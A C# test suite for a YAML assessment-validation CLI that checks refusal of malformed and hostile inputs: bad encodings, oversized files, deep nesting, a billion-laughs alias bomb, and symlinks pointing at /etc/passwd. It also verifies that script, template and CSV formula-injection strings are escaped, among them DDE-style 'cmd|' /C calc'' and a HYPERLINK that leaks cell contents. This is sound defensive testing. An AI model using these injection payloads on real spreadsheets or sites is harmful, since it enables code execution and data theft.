using System.Diagnostics;
using System.Text;
using System.Text.RegularExpressions;
using WccAssure.Core.Yaml;
using WccAssure.Reporting.Rendering;

namespace WccAssure.Cli.Tests;

/// <summary>
/// Hard inputs, one broken thing each, run through `wcc validate` and `wcc report` exactly as a user would. Each must
/// end in a located finding and exit code 1, with no stack trace, and `report` must write nothing. Small cases are
/// checked in under tests/fixtures/hostile/&lt;case&gt;/ and laid over a copy of tests/fixtures/valid; big, binary
/// and file-system cases are made here, since a checked-in 50 MB file or stray byte would be mangled or bloat the repo.
/// </summary>
public partial class HostileInputTests
{
    private static readonly string Corpus = Path.Combine(Wcc.Root, "tests", "fixtures", "hostile");

    /// <summary>
    /// A fresh copy of the valid scaffold, and beside it the --out folder a report would be written to.
    /// </summary>
    private sealed class Case : IDisposable
    {
        public Case(string? overlay = null)
        {
            Work = Path.Combine(Path.GetTempPath(), "wcc-hostile-" + Guid.NewGuid().ToString("N"));
            Folder = Path.Combine(Work, "assessment");
            Out = Path.Combine(Work, "out");
            CopyInto(Path.Combine(Wcc.Root, "tests", "fixtures", "valid"), Folder);
            if (overlay is not null)
            {
                Assert.True(Directory.Exists(Path.Combine(Corpus, overlay)), $"no corpus case {overlay}");
                CopyInto(Path.Combine(Corpus, overlay), Folder);
            }
        }

        public string Work { get; }

        public string Folder { get; }

        public string Out { get; }

        public string PathOf(string relative) => Path.Combine(Folder, relative);

        public void Write(string relative, byte[] content) => File.WriteAllBytes(PathOf(relative), content);

        public void Write(string relative, string content) => File.WriteAllText(PathOf(relative), content);

        public void Replace(string relative, string from, string to)
        {
            var text = File.ReadAllText(PathOf(relative));
            Assert.Contains(from, text);
            File.WriteAllText(PathOf(relative), text.Replace(from, to, StringComparison.Ordinal));
        }

        public void LinkTo(string relative, string target)
        {
            File.Delete(PathOf(relative));
            File.CreateSymbolicLink(PathOf(relative), target);
        }

        public void Dispose()
        {
            // Links are removed, not followed, so a link to /etc cannot take anything with it.
            if (Directory.Exists(Work))
            {
                Directory.Delete(Work, recursive: true);
            }
        }

        private static void CopyInto(string from, string to)
        {
            foreach (var file in Directory.EnumerateFiles(from, "*", SearchOption.AllDirectories))
            {
                var target = Path.Combine(to, Path.GetRelativePath(from, file));
                Directory.CreateDirectory(Path.GetDirectoryName(target)!);
                File.Copy(file, target, overwrite: true);
            }
        }
    }

    // --- checked-in cases -------------------------------------------------------------------------------------

    [Theory]
    [InlineData("unclosed-bracket", "competencies/c01.yaml:5:15", "the '[' here is never closed: add ']'", 1)]
    [InlineData(
        "bad-indentation",
        "competencies/c01.yaml:6:2",
        "'b' is indented 1 space; line it up with 'a' on line 4 (2 spaces)",
        1
    )]
    [InlineData("level-as-text", "competencies/c01.yaml:5:11", "'self' should be a number, found 'three'", 1)]
    [InlineData("text-as-list", "competencies/c01.yaml:5:16", "'rationale' should be text, not a list", 1)]
    [InlineData("number-as-mapping", "competencies/c01.yaml:6:35", "'value' should be a number, not a mapping", 1)]
    [InlineData("unknown-competency-file", "competencies/c12.yaml:1:1", "not a file of this framework", 1)]
    [InlineData("unknown-measure", "competencies/c01.yaml:7:3", "unknown measure 'd' (expected: a, b, c)", 1)]
    [InlineData("unknown-tag", "competencies/c01.yaml:7:28", "unknown evidence tag 'made-up-tag'", 1)]
    [InlineData("unknown-metric", "competencies/c01.yaml:6:7", "unknown metric 'no_such_metric'", 1)]
    [InlineData("unknown-indicator", "outcomes.yaml:6:16", "unknown indicator 'not-an-indicator'", 1)]
    [InlineData(
        "unknown-governance-measure",
        "governance/strategy.yaml:8:3",
        "unknown measure 'milestone'; did you mean 'milestones'?",
        1
    )] // and 'milestones' is missing
    [InlineData("duplicate-key", "competencies/c01.yaml:6:5", "duplicate key 'self' (first at line 5)", 1)]
    [InlineData("level-zero", "competencies/c01.yaml:5:11", "'self' should be a whole number from 1 to 4, found 0", 1)]
    [InlineData("level-five", "competencies/c01.yaml:5:12", "'panel' should be a whole number from 1 to 4, found 5", 1)]
    [InlineData(
        "level-fraction",
        "competencies/c01.yaml:5:15",
        "'lastYear' should be a whole number from 1 to 4, found 2.5",
        1
    )]
    [InlineData(
        "metric-out-of-range",
        "competencies/c01.yaml:6:27",
        "metric 'stakeholder_survey' is 7.5, outside its range 0 to 6",
        1
    )]
    [InlineData(
        "duplicate-figure-id",
        "assessment.yaml:10:5",
        "figure 'part' is used more than once (first at line 9)",
        1
    )] // the figure-sum check must not throw on it
    [InlineData(
        "document-outside",
        "assessment.yaml:9:15",
        "a source document is named by its file name, not a path outside the assessment",
        1
    )]
    [InlineData("empty-file", "competencies/c01.yaml:1:1", "the file is empty", 1)]
    [InlineData("only-a-comment", "competencies/c01.yaml:1:1", "the file is empty", 1)]
    [InlineData(
        "top-level-scalar",
        "competencies/c01.yaml:2:1",
        "a competency file should be a mapping of keys to values, not a single value",
        1
    )]
    [InlineData(
        "top-level-list",
        "outcomes.yaml:2:1",
        "outcomes.yaml should be a mapping of keys to values, not a list",
        1
    )]
    [InlineData("second-document", "governance/board.yaml:10:1", "more than one YAML document", 1)]
    [InlineData("list-as-key", "competencies/c01.yaml:7:3", "a key must be a single value, not a list", 1)]
    [InlineData("mapping-as-key", "competencies/c01.yaml:7:1", "a key must be a single value, not a mapping", 1)]
    public void A_checked_in_hostile_case_is_refused_at_its_place(
        string name,
        string location,
        string message,
        int errors
    )
    {
        using var c = new Case(name);
        AssertRefused(c, location, message, errors);
    }

    [Fact]
    public void Every_checked_in_case_is_tested()
    {
        var tested = typeof(HostileInputTests)
            .GetMethod(nameof(A_checked_in_hostile_case_is_refused_at_its_place))!
            .GetCustomAttributes(typeof(InlineDataAttribute), false)
            .Cast<InlineDataAttribute>()
            .Select(a => (string)a.GetData(null!).First()[0])
            .Concat(["html-in-text", "liquid-in-text", "formula-in-text"]);
        var present = Directory.GetDirectories(Corpus).Select(Path.GetFileName).OfType<string>();
        Assert.Equal(present.Order(StringComparer.Ordinal), tested.Order(StringComparer.Ordinal));
    }

    // --- generated cases: bytes an editor or git would "fix", sizes too big to commit -----------------------

    [Fact]
    public void A_tab_used_as_indentation_is_refused_where_the_tab_is()
    {
        using var c = new Case();
        c.Replace("competencies/c01.yaml", "\n  b:\n", "\n\tb:\n");
        AssertRefused(
            c,
            "competencies/c01.yaml:17:1",
            "a tab is used to indent this line; YAML allows only spaces: indent with spaces",
            1
        );
    }

    [Fact]
    public void A_file_cut_off_inside_a_bracket_is_refused_on_its_last_line_not_past_it()
    {
        // No final newline, as a truncated download or a full disk leaves it; an editor would add one back.
        using var c = new Case();
        c.Write("competencies/c01.yaml", "competency: c01\nmeasures: {a: {evidence: []}");
        AssertRefused(c, "competencies/c01.yaml:2:11", "the '{' here is never closed: add '}'", 1);
    }

    [Fact]
    public void Latin1_text_is_refused_at_the_byte_that_is_not_utf8()
    {
        using var c = new Case();
        c.Write(
            "competencies/c01.yaml",
            [
                .. "competency: c01\nmeasures:\n  a:\n    rationale: caf"u8,
                0xE9,
                .. "\n  b: {evidence: []}\n  c: {evidence: []}\n"u8,
            ]
        );
        AssertRefused(c, "competencies/c01.yaml:4:19", "the file is not UTF-8 (byte 0xE9 at offset 49)", 1);
    }

    [Fact]
    public void A_lone_0xFF_byte_is_refused_at_its_place()
    {
        using var c = new Case();
        c.Write(
            "governance/finance.yaml",
            [.. "area: finance\n"u8, 0xFF, .. File.ReadAllBytes(c.PathOf("governance/finance.yaml"))]
        );
        AssertRefused(c, "governance/finance.yaml:2:1", "the file is not UTF-8 (byte 0xFF at offset 14)", 1);
    }

    [Fact]
    public void Utf16_with_a_byte_order_mark_is_refused()
    {
        using var c = new Case();
        var text = File.ReadAllText(c.PathOf("outcomes.yaml"));
        c.Write("outcomes.yaml", [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(text)]);
        AssertRefused(c, "outcomes.yaml:1:1", "the file is UTF-16; save it as UTF-8", 1);
    }

    [Fact]
    public void A_50_MB_file_is_refused_by_its_size_in_under_a_second()
    {
        using var c = new Case();
        using (var stream = File.Create(c.PathOf("competencies/c01.yaml")))
        {
            // Sparse: the length is set without writing the bytes, so the test is fast and takes no disk.
            stream.SetLength(50L * 1024 * 1024);
        }

        Wcc.Run("validate", "tests/fixtures/valid"); // warm up, so the clock measures the file and not the JIT
        var clock = Stopwatch.StartNew();
        var (code, output, _) = Wcc.Run("validate", c.Folder);
        clock.Stop();
        Assert.Equal(1, code);
        Assert.Contains($"{c.Folder}/competencies/c01.yaml:1:1: error: file is 50.0 MB; the limit is 2 MB", output);
        Assert.True(
            clock.Elapsed < TimeSpan.FromSeconds(1),
            $"took {clock.Elapsed.TotalMilliseconds:0} ms: the file was read, not refused by size"
        );
        AssertRefused(c, "competencies/c01.yaml:1:1", "the limit is 2 MB", 1);
    }

    // Depth is counted per node (a mapping's keys and values sit one level below it), so the 65th level is reported.
    [Theory]
    [InlineData("[", "]", "competencies/c01.yaml:2:74")] // 10 + 63 brackets + 1
    [InlineData("[", "", "competencies/c01.yaml:2:74")] // never closed: refused by depth before the end is reached
    [InlineData("{a: ", "}", "competencies/c01.yaml:2:260")] // the key of the 63rd mapping
    public void Ten_thousand_levels_of_flow_nesting_are_refused_by_depth(string open, string close, string location)
    {
        using var c = new Case();
        c.Write(
            "competencies/c01.yaml",
            "competency: c01\nmeasures: "
                + string.Concat(Enumerable.Repeat(open, 10_000))
                + string.Concat(Enumerable.Repeat(close, 10_000))
                + "\n"
        );
        AssertRefused(c, location, "nesting is deeper than 64 levels", 1);
    }

    [Fact]
    public void Ten_thousand_levels_of_block_lists_are_refused_by_depth()
    {
        using var c = new Case();
        c.Write(
            "competencies/c01.yaml",
            "competency: c01\nmeasures:\n" + string.Concat(Enumerable.Repeat("- ", 10_000)) + "x\n"
        );
        AssertRefused(c, "competencies/c01.yaml:3:127", "nesting is deeper than 64 levels", 1);
    }

    [Fact]
    public void A_thousand_levels_of_block_mappings_are_refused_by_depth()
    {
        // One space more per level keeps 1,000 levels under the 2 MB cap (10,000 would be 50 MB, refused by size).
        using var c = new Case();
        var text = new StringBuilder("competency: c01\nmeasures:\n");
        for (var level = 1; level <= 1_000; level++)
        {
            text.Append(' ', level).Append("k:\n");
        }

        c.Write("competencies/c01.yaml", text.Append(' ', 1_001).Append("x\n").ToString());
        AssertRefused(c, "competencies/c01.yaml:65:64", "nesting is deeper than 64 levels", 1);
    }

    [Fact]
    public void A_billion_laughs_alias_bomb_is_refused_without_expanding_it()
    {
        using var c = new Case();
        var bomb = new StringBuilder(
            "competency: c01\nmeasures:\n  a: {evidence: []}\n  b: {evidence: []}\n  c: {evidence: "
                + "[]}\nrecommendations:\n"
        );
        bomb.Append("  - &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (var level = 1; level <= 9; level++)
        {
            bomb.Append($"  - &l{level} [{string.Join(", ", Enumerable.Repeat($"*l{level - 1}", 10))}]\n");
        }

        c.Write("competencies/c01.yaml", bomb.ToString());
        var clock = Stopwatch.StartNew();
        var output = AssertRefused(c, "competencies/c01.yaml:8:10", "aliases (*l0) are not accepted", errors: null);

        // A capped list of aliases, never one finding per expanded node (10^10).
        // + one per list item of the wrong shape
        Assert.InRange(Findings(output).Count, 1, YamlTreeReader.MaxAliasFindings + 1 + 10);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(10), $"took {clock.Elapsed.TotalSeconds:0.0} s");
    }

    // --- missing files -------------------------------------------------------------------------------------------

    [Theory]
    [InlineData("competencies/c05.yaml")]
    [InlineData("assessment.yaml")]
    [InlineData("outcomes.yaml")]
    public void A_missing_file_is_named(string relative)
    {
        using var c = new Case();
        File.Delete(c.PathOf(relative));
        AssertRefused(c, relative + ":1:1", "file not found", 1);
    }

    [Fact]
    public void A_missing_governance_folder_names_each_file_it_should_hold()
    {
        using var c = new Case();
        Directory.Delete(c.PathOf("governance"), recursive: true);
        var output = AssertRefused(c, "governance/board.yaml:1:1", "file not found", 3);
        Assert.Contains($"{c.Folder}/governance/finance.yaml:1:1: error: file not found", output);
        Assert.Contains($"{c.Folder}/governance/strategy.yaml:1:1: error: file not found", output);
    }

    [Fact]
    public void A_missing_assessment_folder_is_an_input_error_not_a_usage_error()
    {
        using var c = new Case();
        Directory.Delete(c.Folder, recursive: true);
        AssertRefused(c, "", "no such assessment folder", 1, at: c.Folder + ":1:1");
    }

    // --- the file system as an attacker's tool ---------------------------------------------------------------

    [Fact]
    public void A_symlink_out_of_the_folder_is_refused_and_the_target_is_not_shown()
    {
        using var c = new Case();
        c.LinkTo("competencies/c01.yaml", "/etc/passwd");
        var output = AssertRefused(c, "competencies/c01.yaml:1:1", "links outside the assessment folder", 1);
        Assert.DoesNotContain("root:", output);
    }

    [Theory]
    [InlineData("competencies/c01.yaml")] // a link to itself
    [InlineData("competencies/c02.yaml")] // c01 -> c02 -> c01
    public void A_loop_of_symlinks_is_refused_rather_than_followed_for_ever(string target)
    {
        // Followed without a limit, a loop overflows the stack, which kills the process: no catch turns that into a
        // finding.
        using var c = new Case();
        c.LinkTo("competencies/c01.yaml", c.PathOf(target));
        if (target != "competencies/c01.yaml")
        {
            c.LinkTo(target, c.PathOf("competencies/c01.yaml"));
        }

        AssertRefused(c, "competencies/c01.yaml:1:1", "round a loop of links", errors: null);
    }

    [Fact]
    public void A_chain_of_links_longer_than_the_budget_is_refused_not_read_through()
    {
        // The chain stays inside the folder for 45 links and then leaves it: it must be refused, not opened.
        using var c = new Case();
        Directory.CreateDirectory(c.PathOf("links"));
        File.CreateSymbolicLink(c.PathOf("links/45"), "/etc/passwd");
        for (var i = 44; i >= 1; i--)
        {
            File.CreateSymbolicLink(c.PathOf($"links/{i}"), c.PathOf($"links/{i + 1}"));
        }

        c.LinkTo("competencies/c01.yaml", c.PathOf("links/1"));
        var output = AssertRefused(c, "competencies/c01.yaml:1:1", "links outside the assessment folder", 1);
        Assert.DoesNotContain("root:", output);
    }

    [Fact]
    public void A_linked_governance_folder_is_refused_without_listing_what_it_links_to()
    {
        using var c = new Case();
        Directory.Delete(c.PathOf("governance"), recursive: true);
        Directory.CreateSymbolicLink(c.PathOf("governance"), "/etc");
        var output = AssertRefused(c, "governance/board.yaml:1:1", "links outside the assessment folder", 3);
        Assert.DoesNotContain("not a file of this framework", output);
        Assert.DoesNotContain("passwd", output);
    }

    [Fact]
    public async Task A_named_pipe_in_place_of_a_file_does_not_hang()
    {
        using var c = new Case();
        var fifo = c.PathOf("competencies/c01.yaml");
        File.Delete(fifo);
        using (var mkfifo = Process.Start("mkfifo", [fifo]))
        {
            mkfifo.WaitForExit();
            Assert.Equal(0, mkfifo.ExitCode);
        }

        var run = Task.Run(() => Wcc.Run("validate", c.Folder));
        if (await Task.WhenAny(run, Task.Delay(TimeSpan.FromSeconds(10))) != run)
        {
            // Unblock the reader, so the shared CLI lock is released before the test fails.
            await File.WriteAllTextAsync(fifo, "");
            Assert.Fail("wcc validate blocked opening a named pipe");
        }

        AssertRefused(c, "competencies/c01.yaml:1:1", "the file is empty", 1);
    }

    // --- hostile text: valid input that must be shown as written --------------------------------------------

    [Fact]
    public void Html_and_script_in_text_validate_and_are_rendered_escaped()
    {
        using var c = new Case("html-in-text");
        var (html, markdown, _) = RenderValid(c);
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<b>bold", html, StringComparison.Ordinal);
        Assert.Contains("&lt;script&gt;alert('rationale')&lt;/script&gt;", html);
        Assert.Contains("&lt;script&gt;document.location=", html);
        Assert.DoesNotContain("<script", markdown, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("&lt;script&gt;", markdown);
    }

    [Fact]
    public void Liquid_in_text_is_rendered_literally_not_evaluated()
    {
        using var c = new Case("liquid-in-text");
        var (html, markdown, _) = RenderValid(c);
        // The Markdown report escapes a pipe, so a table row keeps its columns.
        foreach (var (text, pipe) in new[] { (html, "|"), (markdown, "\\|") })
        {
            Assert.Contains(
                "{{ Organisation }} {% for g in Gaps %}LOOPED{% endfor %} {{ 7 " + pipe + " plus: 1 }}",
                text
            );
            Assert.Contains("{% assign x = 'EVALUATED' %}{{ x }} {% include 'report.css' %}", text);
            Assert.Equal(Count(text, "{% for g in Gaps %}LOOPED"), Count(text, "LOOPED"));
            Assert.Equal(Count(text, "'EVALUATED'"), Count(text, "EVALUATED"));
        }
    }

    [Fact]
    public void Formula_text_is_shown_in_the_report_and_no_csv_cell_can_start_a_formula()
    {
        using var c = new Case("formula-in-text");
        var (html, markdown, csv) = RenderValid(c);
        Assert.Contains(
            "=HYPERLINK(&quot;https://example.invalid/?leak=&quot;&amp;A1,&quot;click&quot;) +cmd|' /C calc'!A0 "
                + "@SUM(1+1)",
            html
        );
        Assert.Contains("@SUM(1+1)*cmd|' /C calc'!A0", html);
        Assert.Contains("=HYPERLINK(", markdown);
        Assert.Contains("@SUM(1+1)*cmd", markdown);

        // Rationale and commentary are not scorecard columns, so the CSV is checked whole and Csv.Cell directly.
        foreach (var cell in CsvCells(csv))
        {
            Assert.False(
                cell.Length > 0 && cell[0] is '=' or '+' or '@' or '\t' or '\r',
                $"scorecard.csv cell starts a formula: {cell}"
            );
            Assert.False(
                cell.StartsWith('-')
                    && !double.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _),
                $"scorecard.csv cell starts a formula: {cell}"
            );
        }

        foreach (
            var hostile in new[]
            {
                "=HYPERLINK(\"https://example.invalid\",\"x\")",
                "+cmd|' /C calc'!A0",
                "@SUM(1+1)",
                "-2+3+cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
            }
        )
        {
            var cell = CsvCells(Csv.Line([hostile])).Single();
            Assert.Equal("'" + hostile, cell);
        }

        Assert.Equal("-0.5", Csv.Cell("-0.5"));
    }

    // --- usage errors are the only exit 2 -------------------------------------------------------------------

    [Theory]
    [InlineData("report")]
    [InlineData("validate")]
    [InlineData("validate", "--no-such-option", "tests/fixtures/valid")]
    [InlineData("report", "tests/fixtures/valid", "--out")]
    [InlineData("score", "tests/fixtures/valid", "--fromat", "json")]
    public void A_wrong_command_line_exits_2_without_a_stack_trace(params string[] args)
    {
        var (code, output, error) = Wcc.Run(args);
        Assert.Equal(2, code);
        AssertNoStackTrace(output, error);
    }

    // --- helpers --------------------------------------------------------------------------------------------

    /// <summary>
    /// Runs validate and report on the case. Both must exit 1 and print the finding at <paramref name="location"/>;
    /// every line printed must be a located finding; neither may show a stack trace; report must leave no output.
    /// </summary>
    private static string AssertRefused(Case c, string location, string message, int? errors, string? at = null)
    {
        var expected = (at ?? $"{c.Folder}/{location}") + ": error: ";
        var (code, output, error) = Wcc.Run("validate", c.Folder);
        Assert.True(code == 1, $"validate exited {code}\n{output}{error}");
        AssertNoStackTrace(output, error);
        Assert.True(
            Findings(output)
                .Any(f =>
                    f.StartsWith(expected, StringComparison.Ordinal) && f.Contains(message, StringComparison.Ordinal)
                ),
            $"expected '{expected}…{message}' in:\n{output}"
        );
        Assert.All(output.TrimEnd('\n').Split('\n').SkipLast(1), line => Assert.Matches(LocatedFinding(), line));
        if (errors is { } count)
        {
            // Warnings may come with it (the scaffold's evidence cites no source); the errors are counted exactly.
            Assert.Matches($@"1 assessment\(s\): {count} error\(s\), \d+ warning\(s\)\n$", output);
        }

        var (reportCode, reportOutput, reportError) = Wcc.Run("report", c.Folder, "--out", c.Out);
        Assert.True(reportCode == 1, $"report exited {reportCode}\n{reportOutput}{reportError}");
        AssertNoStackTrace(reportOutput, reportError);
        Assert.Contains(Findings(reportError), f =>
            f.StartsWith(expected, StringComparison.Ordinal) && f.Contains(message, StringComparison.Ordinal)
        );
        Assert.All(reportError.TrimEnd('\n').Split('\n'), line => Assert.Matches(LocatedFinding(), line));
        Assert.False(Directory.Exists(c.Out), "report wrote output for invalid input");
        Assert.Empty(TemporaryFiles(c.Work));
        return output;
    }

    private static (string Html, string Markdown, string Csv) RenderValid(Case c)
    {
        var (code, output, error) = Wcc.Run("validate", c.Folder);
        Assert.True(code == 0, $"validate exited {code}\n{output}{error}");
        // Valid: no errors, and no warning but the one about evidence that names no source (the scaffold declares
        // none).
        Assert.Contains("0 error(s), ", output);
        Assert.All(output.Split('\n').Where(l => l.Contains(": warning: ", StringComparison.Ordinal)), l =>
            Assert.Contains("no 'source:'", l)
        );
        var (reportCode, reportOutput, reportError) = Wcc.Run("report", c.Folder, "--out", c.Out);
        Assert.True(reportCode == 0, $"report exited {reportCode}\n{reportOutput}{reportError}");
        AssertNoStackTrace(reportOutput, reportError);
        Assert.Empty(TemporaryFiles(c.Work));
        var folder = Path.Combine(c.Out, "south-staffordshire-pct-2009-10");
        return (
            File.ReadAllText(Path.Combine(folder, "report.html")),
            File.ReadAllText(Path.Combine(folder, "report.md")),
            File.ReadAllText(Path.Combine(folder, "scorecard.csv"))
        );
    }

    private static void AssertNoStackTrace(string output, string error)
    {
        Assert.DoesNotContain("   at ", output + error);
        Assert.DoesNotContain("Exception", output + error);
        Assert.DoesNotContain("internal error", output + error);
    }

    private static List<string> Findings(string text) => [.. text.Split('\n').Where(l => LocatedFinding().IsMatch(l))];

    /// <summary>
    /// Half-written files would be left as name.tmp-PID; links are skipped so a link to /etc is not searched.
    /// </summary>
    private static string[] TemporaryFiles(string work) =>
        Directory.GetFiles(
            work,
            "*.tmp-*",
            new EnumerationOptions { RecurseSubdirectories = true, AttributesToSkip = FileAttributes.ReparsePoint }
        );

    private static int Count(string text, string part) => Regex.Count(text, Regex.Escape(part));

    /// <summary>RFC 4180 cells, enough to read back what <see cref="Csv"/> writes.</summary>
    private static IEnumerable<string> CsvCells(string csv)
    {
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var ch = csv[i];
            if (quoted)
            {
                if (ch == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (ch == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(ch);
                }
            }
            else if (ch == '"')
            {
                quoted = true;
            }
            else if (ch is ',' or '\n')
            {
                yield return cell.ToString();
                cell.Clear();
            }
            else if (ch != '\r')
            {
                cell.Append(ch);
            }
        }
    }

    [GeneratedRegex(@"^.+:\d+:\d+: (error|warning): .+$")]
    private static partial Regex LocatedFinding();
}
